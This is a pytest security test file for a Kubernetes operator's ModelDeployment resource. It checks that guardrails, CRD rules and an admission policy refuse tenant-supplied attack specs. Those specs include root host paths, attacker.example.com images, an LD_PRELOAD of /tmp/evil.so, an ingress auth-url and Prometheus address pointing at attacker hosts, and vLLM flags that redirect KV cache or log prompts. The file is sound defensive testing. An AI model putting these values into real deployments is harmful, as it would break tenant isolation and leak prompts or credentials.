"""What a team that may edit a ModelDeployment can make the operator do, on the real API server.

Threat: on a shared platform a team may create and edit ModelDeployments in its own namespace. The operator
acts with its own rights, so every field it turns into a pod, a Service, an Ingress or an HTTPRoute is a way
to do what the team could not do itself: a host path read and written as uid 10001 on every node (another
namespace's NVMe KV files, or the node's own), any image (which also runs the init container holding the
model credentials), vLLM flags that override the operator's (``--kv-transfer-config`` sends every tenant's
KV to an outside LMCache, ``--enable-log-requests`` logs prompts), loader variables (``LD_PRELOAD``) or
reserved ones (``KVFLEET_*`` through envFrom), a ``system-node-critical`` priority, an internet-facing load
balancer, ingress-controller annotations, another team's hostname or someone else's Gateway.

Defences under test:

* fixed rules in the CRD (CEL, enforced by the API server) for what no platform would allow: reserved and
  loader/interpreter environment names, envFrom without a safe prefix;
* the platform's allowlists (chart value ``guardrails``; ``build/guardrails.py``): images, host-path roots,
  vLLM flags beyond the built-in tuning ones, priority classes, Service types and annotations, ingress
  classes and annotations, hosts, parent Gateways, and the namespace of an InferencePool's platform
  gateway pods. A ModelDeployment that breaks one gets ``Ready=False``, reason ``GuardrailRefused``, a
  message naming the field, and the operator writes nothing for it (an existing one keeps its running
  pods: the upgrade test);
* the chart's ValidatingAdmissionPolicy (``templates/model-deployment-rights.yaml``): creating or editing a
  ModelDeployment's spec needs the right to create pods in the namespace (and Services, Ingresses,
  HTTPRoutes or InferencePools for the exposure that makes them), checked by the API server for the real
  user with CEL's ``authorizer`` (the operator never sees who asked).

The reconcile runs in process with the default guardrails (``operator_support.CONFIG``), as the kopf
handlers run it; the ModelDeployments are created as the cluster admin except in the policy tests, which use
a ServiceAccount token with only the rights the test grants.
"""

from __future__ import annotations

import contextlib
import copy
import dataclasses
import json
import ssl
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from cluster_helpers import run_tool, scratch_namespace, wait_for
from devcluster import ControlPlane

from kvfleet_operator.api import reasons
from kvfleet_operator.build.common import owned_selector
from kvfleet_operator.k8s import kinds
from operator_support import API, CONFIG, condition, create, get, load_example, model_deployment, reconcile

REPO = Path(__file__).resolve().parents[2]
CHART = REPO / "charts" / "kvfleet"
RELEASE = "kvfleet-guard"
RIGHTS_POLICY = f"{RELEASE}-model-deployment-rights"
#: The operator's own images in ``CONFIG`` (always allowed).
ENGINE_IMAGE = CONFIG.images.engine
#: Every exposure kind managed, as with the chart's rbac.ingress and rbac.httpRoute on: only the guardrails
#: stand between the spec and the objects.
EXPOSING = dataclasses.replace(CONFIG, exposure=kinds.EXPOSURE_KINDS)


def _tiny(namespace: str, name: str) -> dict[str, Any]:
    doc = load_example("local/modeldeployment-tiny.yaml", namespace)
    doc["metadata"]["name"] = name
    return doc


def _set(doc: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    node = doc["spec"]
    *parents, last = path.split(".")
    for key in parents:
        node = node.setdefault(key, {})
    node[last] = value
    return doc


def _template_env(*env: dict[str, Any]) -> Callable[[dict[str, Any]], dict[str, Any]]:
    return lambda d: _set(d, "pool.podTemplate.env", list(env))


#: Each attack: name -> (what it does to the tiny ModelDeployment, the field a refusal must name, who
#: refuses: "crd" (the API server, at create) or "operator" (GuardrailRefused, nothing written)).
ATTACKS: dict[str, tuple[Callable[[dict[str, Any]], dict[str, Any]], str, str]] = {
    "host-path-root": (
        lambda d: _set(d, "kvCache.nvme", {"size": "1Gi", "hostPath": "/"}),
        "spec.kvCache.nvme.hostPath",
        "operator",
    ),
    "host-path-another-namespaces-nvme-folder": (
        lambda d: _set(d, "kvCache.nvme", {"size": "1Gi", "hostPath": "/mnt/nvme/bank"}),
        "spec.kvCache.nvme.hostPath",
        "operator",
    ),
    "foreign-engine-image": (
        lambda d: _set(d, "engine.image", "attacker.example.com/exfiltrate:latest"),
        "spec.engine.image",
        "operator",
    ),
    "foreign-gateway-image": (
        lambda d: _set(d, "gateway.image", "attacker.example.com/keylogger:latest"),
        "spec.gateway.image",
        "operator",
    ),
    "kv-transfer-config-to-an-outside-lmcache": (
        lambda d: _set(
            d,
            "engine.extraArgs",
            ['--kv-transfer-config={"kv_connector":"LMCacheConnectorV1","kv_role":"kv_both"}'],
        ),
        "spec.engine.extraArgs",
        "operator",
    ),
    "log-every-prompt": (
        lambda d: _set(d, "engine.extraArgs", ["--enable-log-requests"]),
        "spec.engine.extraArgs",
        "operator",
    ),
    "trust-remote-code-spelled-with-underscores": (
        lambda d: _set(d, "engine.extraArgs", ["--trust_remote_code"]),
        "spec.engine.extraArgs",
        "operator",
    ),
    "system-node-critical-priority": (
        lambda d: _set(d, "pool.podTemplate.priorityClassName", "system-node-critical"),
        "spec.pool.podTemplate.priorityClassName",
        "operator",
    ),
    "ld-preload": (
        _template_env({"name": "LD_PRELOAD", "value": "/tmp/evil.so"}),
        "spec.pool.podTemplate.env",
        "crd",
    ),
    "pythonpath": (
        _template_env({"name": "PYTHONPATH", "value": "/tmp"}),
        "spec.pool.podTemplate.env",
        "crd",
    ),
    "hf-hub-online": (
        _template_env({"name": "HF_HUB_OFFLINE", "value": "0"}),
        "spec.pool.podTemplate.env",
        "crd",
    ),
    "envfrom-bringing-reserved-names": (
        lambda d: _set(d, "pool.podTemplate.envFrom", [{"configMapRef": {"name": "lmcache-override"}}]),
        "spec.pool.podTemplate.envFrom",
        "crd",
    ),
    "envfrom-prefix-that-spells-a-reserved-name": (
        lambda d: _set(
            d, "pool.podTemplate.envFrom", [{"prefix": "LMCACHE_", "configMapRef": {"name": "override"}}]
        ),
        "spec.pool.podTemplate.envFrom",
        "crd",
    ),
    "internet-facing-load-balancer": (
        lambda d: _set(d, "gateway.exposure", {"service": {"type": "LoadBalancer"}}),
        "spec.gateway.exposure.service.type",
        "operator",
    ),
    "service-annotation-for-the-cloud-controller": (
        lambda d: _set(
            d,
            "gateway.exposure",
            {"service": {"annotations": {"service.beta.kubernetes.io/aws-load-balancer-scheme": "x"}}},
        ),
        "spec.gateway.exposure.service.annotations",
        "operator",
    ),
    "ingress-auth-url-annotation": (
        lambda d: _set(
            d,
            "gateway.exposure",
            {
                "ingress": {
                    "host": "tiny.example.com",
                    "annotations": {"nginx.ingress.kubernetes.io/auth-url": "http://attacker.example.com"},
                }
            },
        ),
        "spec.gateway.exposure.ingress.annotations",
        "operator",
    ),
    "ingress-claiming-another-teams-host": (
        lambda d: _set(d, "gateway.exposure", {"ingress": {"host": "bank.example.com"}}),
        "spec.gateway.exposure.ingress.host",
        "operator",
    ),
    "httproute-on-a-foreign-gateway": (
        lambda d: _set(
            d,
            "gateway.exposure",
            {
                "httpRoute": {
                    "parentRefs": [{"name": "public", "namespace": "infra"}],
                    "hostnames": ["tiny.example.com"],
                }
            },
        ),
        "spec.gateway.exposure.httpRoute.parentRefs",
        "operator",
    ),
    # The pods named there reach the engines' OpenAI port (no key, the caller's own salt).
    "inference-pool-opening-the-engines-to-another-namespace": (
        lambda d: _set(
            d,
            "gateway.inferencePool",
            {"gatewayPods": {"namespace": "infra", "matchLabels": {"app": "anything"}}},
        ),
        "spec.gateway.inferencePool.gatewayPods.namespace",
        "operator",
    ),
}


@pytest.fixture(scope="module")
def namespace(api_cluster: ControlPlane) -> Iterator[str]:
    with scratch_namespace(api_cluster, "guard", crds=True) as ns:
        # Freshly applied CRDs answer 429 "storage is (re)initializing" for a moment: wait it out.
        for plural in ("modeldeployments", "tenants"):
            wait_for(
                lambda p=plural: api_cluster.request("GET", f"{API}/namespaces/{ns}/{p}")[0] == 200,
                timeout=30,
                what=f"{plural} served",
            )
        yield ns


def _owned(plane: ControlPlane, namespace: str, name: str) -> list[str]:
    """Every object of the kinds the operator writes that carries ``name``'s children labels."""
    found: list[str] = []
    for kind in (kinds.STATEFUL_SET, kinds.DEPLOYMENT, kinds.SERVICE, kinds.CONFIG_MAP, kinds.INGRESS):
        status, body = plane.request("GET", kind.path(namespace) + f"?labelSelector={owned_selector(name)}")
        assert status == 200, body
        found += [f"{kind.kind}/{o['metadata']['name']}" for o in body["items"]]
    return found


@pytest.mark.parametrize("attack", ATTACKS, ids=ATTACKS)
def test_a_model_deployment_attack_is_refused_naming_the_field_and_nothing_is_written(
    api_cluster: ControlPlane, namespace: str, attack: str
) -> None:
    """Attack: a team sets the field on its own ModelDeployment (the cluster admin here, so that only the
    operator's guardrails or the CRD can refuse). The API server refuses it with a message naming the field,
    or the operator reconciles it into ``Ready=False`` ``GuardrailRefused`` naming the field and writes
    nothing (no StatefulSet, Deployment, Service, ConfigMap or Ingress)."""
    plane = api_cluster
    mutate, field, where = ATTACKS[attack]
    name = f"a-{attack}"[:50]
    doc = mutate(_tiny(namespace, name))
    status, body = plane.request("POST", f"{API}/namespaces/{namespace}/modeldeployments", doc)
    if where == "crd":
        assert status == 422 and field in str(body.get("message")), (status, body)
        return
    assert status == 201, body
    result, _ = reconcile(plane, namespace, name, EXPOSING)
    assert result.applied == [] and _owned(plane, namespace, name) == [], result.applied
    ready = condition(model_deployment(plane, namespace, name))
    assert ready.get("reason") == reasons.GUARDRAIL_REFUSED and field in ready.get("message", ""), ready


def test_the_same_model_deployment_without_the_attack_is_served(
    api_cluster: ControlPlane, namespace: str
) -> None:
    """The guardrails must not stop an ordinary ModelDeployment: its children are written."""
    create(api_cluster, _tiny(namespace, "benign"))
    result, _ = reconcile(api_cluster, namespace, "benign", EXPOSING)
    assert result.applied, result
    assert condition(model_deployment(api_cluster, namespace, "benign")).get("reason") != "GuardrailRefused"


def test_an_upgrade_keeps_the_running_pods_of_a_model_deployment_now_refused(
    api_cluster: ControlPlane, namespace: str
) -> None:
    """Upgrade: a ModelDeployment with a host path and its own image was served by an operator without
    guardrails (the permissive settings stand for it). The new operator refuses it: the condition names the
    fields, and the StatefulSet and Deployment it wrote stay exactly as they were (same resourceVersion, not
    deleted), so the running pods keep serving until the team fixes the spec."""
    from kvfleet_operator.build.guardrails import Guardrails  # noqa: PLC0415 - new with the fix

    plane = api_cluster
    old = dataclasses.replace(
        CONFIG, guardrails=Guardrails(images=["registry.example.com/"], host_path_roots=["/mnt/nvme"])
    )
    doc = _set(_tiny(namespace, "upgraded"), "kvCache.nvme", {"size": "1Gi", "hostPath": "/mnt/nvme"})
    create(plane, _set(doc, "engine.image", "registry.example.com/team/engine:1"))
    for _ in range(3):
        reconcile(plane, namespace, "upgraded", old)
    before = {
        kind.kind: get(plane, kind.path(namespace) + f"?labelSelector={owned_selector('upgraded')}")["items"]
        for kind in (kinds.STATEFUL_SET, kinds.DEPLOYMENT)
    }
    assert before["StatefulSet"] and before["Deployment"], before
    result, _ = reconcile(plane, namespace, "upgraded", CONFIG)
    ready = condition(model_deployment(plane, namespace, "upgraded"))
    assert ready.get("reason") == reasons.GUARDRAIL_REFUSED, ready
    assert "spec.engine.image" in ready["message"] and "spec.kvCache.nvme.hostPath" in ready["message"], ready
    assert result.applied == [] and result.deleted == []
    for kind in (kinds.STATEFUL_SET, kinds.DEPLOYMENT):
        for obj in before[kind.kind]:
            now = get(plane, kind.path(namespace, obj["metadata"]["name"]))
            assert now["metadata"]["resourceVersion"] == obj["metadata"]["resourceVersion"], kind.kind
    assert reconcile(plane, namespace, "upgraded", CONFIG)[1] == 0  # settled: no write per resync


# --- the chart's policy: the requesting user's own rights ------------------------------------------------


@dataclasses.dataclass(frozen=True)
class Team:
    """A namespace and a ServiceAccount token for a team that may edit ModelDeployments there."""

    plane: ControlPlane
    namespace: str
    token: str

    def request(self, method: str, path: str, body: Any = None) -> tuple[int, Any]:
        req = urllib.request.Request(
            self.plane.server + path,
            data=None if body is None else json.dumps(body).encode(),
            method=method,
            headers={"Content-Type": "application/json", "Authorization": f"Bearer {self.token}"},
        )
        ctx = ssl.create_default_context(cafile=str(self.plane.pki.ca_cert))
        try:
            with urllib.request.urlopen(req, context=ctx, timeout=10) as resp:
                return resp.status, json.loads(resp.read() or b"null")
        except urllib.error.HTTPError as err:
            return err.code, json.loads(err.read() or b"null")

    @contextlib.contextmanager
    def granted(self, group: str, resource: str) -> Iterator[None]:
        """A Role and RoleBinding while the block runs: this team's ServiceAccount may create ``resource``
        here. RBAC reaches the authorizer through an informer: the caller waits for the effect."""
        name = f"may-create-{resource}"
        role = {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "Role",
            "metadata": {"name": name, "namespace": self.namespace},
            "rules": [{"apiGroups": [group], "resources": [resource], "verbs": ["create"]}],
        }
        binding = {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "RoleBinding",
            "metadata": {"name": name, "namespace": self.namespace},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
            "subjects": [{"kind": "ServiceAccount", "name": "team", "namespace": self.namespace}],
        }
        base = f"/apis/rbac.authorization.k8s.io/v1/namespaces/{self.namespace}"
        assert self.plane.request("POST", f"{base}/roles", role)[0] == 201
        assert self.plane.request("POST", f"{base}/rolebindings", binding)[0] == 201
        try:
            yield
        finally:
            self.plane.request("DELETE", f"{base}/rolebindings/{name}")
            self.plane.request("DELETE", f"{base}/roles/{name}")

    def create_md(self, doc: dict[str, Any]) -> tuple[int, Any]:
        return self.request("POST", f"{API}/namespaces/{self.namespace}/modeldeployments?dryRun=All", doc)


def _refused_by_policy(status: int, body: Any, needs: str) -> bool:
    message = str((body or {}).get("message", ""))
    return status == 403 and f"ValidatingAdmissionPolicy '{RIGHTS_POLICY}'" in message and needs in message


@pytest.fixture(scope="module")
def team(api_cluster: ControlPlane, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Team]:
    """The chart's policy applied as an install would (removed at the end), and a team's namespace whose
    ServiceAccount may edit ModelDeployments and nothing else (yet)."""
    plane = api_cluster
    rendered = run_tool(
        plane, "helm", "template", RELEASE, str(CHART), "-n", "kvfleet-system",
        "-s", "templates/model-deployment-rights.yaml",
    )  # fmt: skip
    assert {d["kind"] for d in yaml.safe_load_all(rendered) if d} == {
        "ValidatingAdmissionPolicy",
        "ValidatingAdmissionPolicyBinding",
    }
    with scratch_namespace(plane, "team", crds=True) as ns:
        try:
            run_tool(
                plane, "kubectl", "apply", "--server-side", "--field-manager=helm", "-f", "-", stdin=rendered
            )
            status, body = plane.request(
                "POST", f"/api/v1/namespaces/{ns}/serviceaccounts", {"metadata": {"name": "team"}}
            )
            assert status == 201, body
            kubeconfig = plane.service_account_kubeconfig(
                ns, "team", tmp_path_factory.mktemp("team") / "team.kubeconfig"
            )
            token = yaml.safe_load(kubeconfig.read_text())["users"][0]["user"]["token"]
            t = Team(plane, ns, token)
            role = {
                "apiVersion": "rbac.authorization.k8s.io/v1",
                "kind": "Role",
                "metadata": {"name": "md-editor", "namespace": ns},
                "rules": [
                    {
                        "apiGroups": ["kvfleet.io"],
                        "resources": ["modeldeployments"],
                        "verbs": ["create", "get", "update", "patch"],
                    }
                ],
            }
            binding = {
                "apiVersion": "rbac.authorization.k8s.io/v1",
                "kind": "RoleBinding",
                "metadata": {"name": "md-editor", "namespace": ns},
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "md-editor"},
                "subjects": [{"kind": "ServiceAccount", "name": "team", "namespace": ns}],
            }
            base = f"/apis/rbac.authorization.k8s.io/v1/namespaces/{ns}"
            assert plane.request("POST", f"{base}/roles", role)[0] == 201
            assert plane.request("POST", f"{base}/rolebindings", binding)[0] == 201
            # The API server enforces a policy once its informer has it: wait for the first refusal.
            wait_for(
                lambda: _refused_by_policy(*t.create_md(_tiny(ns, "probe")), "pods"),
                timeout=60,
                what="the ModelDeployment rights policy in force",
            )
            yield t
        finally:
            delete_args = ("delete", "--ignore-not-found", "--wait=false", "-f", "-")
            run_tool(plane, "kubectl", *delete_args, stdin=rendered)


def _admitted(team: Team, doc: dict[str, Any]) -> None:
    """Wait until ``doc`` is admitted for the team (a new RoleBinding reaches the authorizer shortly)."""
    wait_for(lambda: team.create_md(doc)[0] == 201, timeout=30, what="the ModelDeployment admitted")


def _refused(team: Team, doc: dict[str, Any], needs: str) -> None:
    """Wait until ``doc`` is refused by the policy naming ``needs`` (a revoked right leaves shortly)."""
    wait_for(
        lambda: _refused_by_policy(*team.create_md(doc), needs),
        timeout=30,
        what=f"the ModelDeployment refused for want of {needs}",
    )


def test_a_user_who_may_not_create_pods_may_not_create_a_model_deployment(team: Team) -> None:
    """Attack: a user with rights on ModelDeployments only creates one, to get pods (its image, flags and
    environment) the operator would create for him. The API server refuses it, naming the right it lacks;
    once he may create pods here, the same ModelDeployment is admitted."""
    doc = _tiny(team.namespace, "pods")
    status, body = team.create_md(doc)
    assert _refused_by_policy(status, body, "pods"), (status, body)
    with team.granted("", "pods"):
        _admitted(team, doc)
    _refused(team, doc, "pods")


@pytest.mark.parametrize(
    ("exposure", "group", "resource"),
    [
        pytest.param({"service": {"type": "LoadBalancer"}}, "", "services", id="load-balancer"),
        pytest.param(
            {"service": {"annotations": {"a.example.com/x": "y"}}}, "", "services", id="annotations"
        ),
        pytest.param({"ingress": {"host": "t.example.com"}}, "networking.k8s.io", "ingresses", id="ingress"),
        pytest.param(
            {"httpRoute": {"parentRefs": [{"name": "gw"}], "hostnames": ["t.example.com"]}},
            "gateway.networking.k8s.io",
            "httproutes",
            id="httproute",
        ),
        pytest.param(
            {"inferencePool": {"gatewayPods": {"matchLabels": {"app": "gw"}}}},
            "inference.networking.k8s.io",
            "inferencepools",
            id="inferencepool",
        ),
        pytest.param(
            {"autoscaling": {"enabled": True, "prometheusAddress": "http://attacker.example:9090"}},
            "keda.sh",
            "scaledobjects",
            id="autoscaling",
        ),
        pytest.param(
            # Enabled or not: a dedicated tenant's spec.dedicated.autoscaling makes KEDA query it.
            {"autoscaling": {"prometheusAddress": "http://attacker.example:9090"}},
            "keda.sh",
            "scaledobjects",
            id="prometheus-address",
        ),
    ],
)
def test_exposure_needs_the_users_own_right_on_what_it_creates(
    team: Team, exposure: dict[str, Any], group: str, resource: str
) -> None:
    """Attack: a user who may create pods but not Services, Ingresses, HTTPRoutes, InferencePools or KEDA
    ScaledObjects asks the operator for a load balancer, Service annotations, an Ingress, an HTTPRoute, an
    InferencePool or autoscaling (KEDA would query the Prometheus address he names, with KEDA's network
    reach; a dedicated tenant's autoscaling makes it query the address even where the shared pool does not
    autoscale). Refused naming the resource; with the right granted, admitted."""
    doc = _tiny(team.namespace, f"x-{resource}")
    if "autoscaling" in exposure:
        doc = _set(doc, "pool.autoscaling", copy.deepcopy(exposure["autoscaling"]))
    elif "inferencePool" in exposure:
        doc = _set(doc, "gateway.inferencePool", copy.deepcopy(exposure["inferencePool"]))
    else:
        doc = _set(doc, "gateway.exposure", copy.deepcopy(exposure))
    with team.granted("", "pods"):
        _admitted(team, _tiny(team.namespace, "plain"))
        status, body = team.create_md(doc)
        assert _refused_by_policy(status, body, resource), (status, body)
        with team.granted(group, resource):
            _admitted(team, doc)
    _refused(team, _tiny(team.namespace, "plain"), "pods")


def test_the_operators_own_metadata_writes_pass_the_policy(team: Team) -> None:
    """The operator adds finalizers and annotations to ModelDeployments with rights on them only: an edit
    that leaves the spec alone is not checked; one that changes the spec is, for the same user."""
    create(team.plane, _tiny(team.namespace, "meta"))
    path = f"{API}/namespaces/{team.namespace}/modeldeployments/meta"
    status, body = team.request("GET", path)
    assert status == 200, body
    body["metadata"].setdefault("annotations", {})["kvfleet.io/touched"] = "yes"
    body["metadata"]["finalizers"] = ["kvfleet.io/tenants"]
    status, body = team.request("PUT", path, body)
    assert status == 200, body
    body["spec"]["pool"]["replicas"] = 2
    status, body = team.request("PUT", path, body)
    assert _refused_by_policy(status, body, "pods"), (status, body)
    team.plane.request(
        "PATCH", path, {"metadata": {"finalizers": None}}, content_type="application/merge-patch+json"
    )
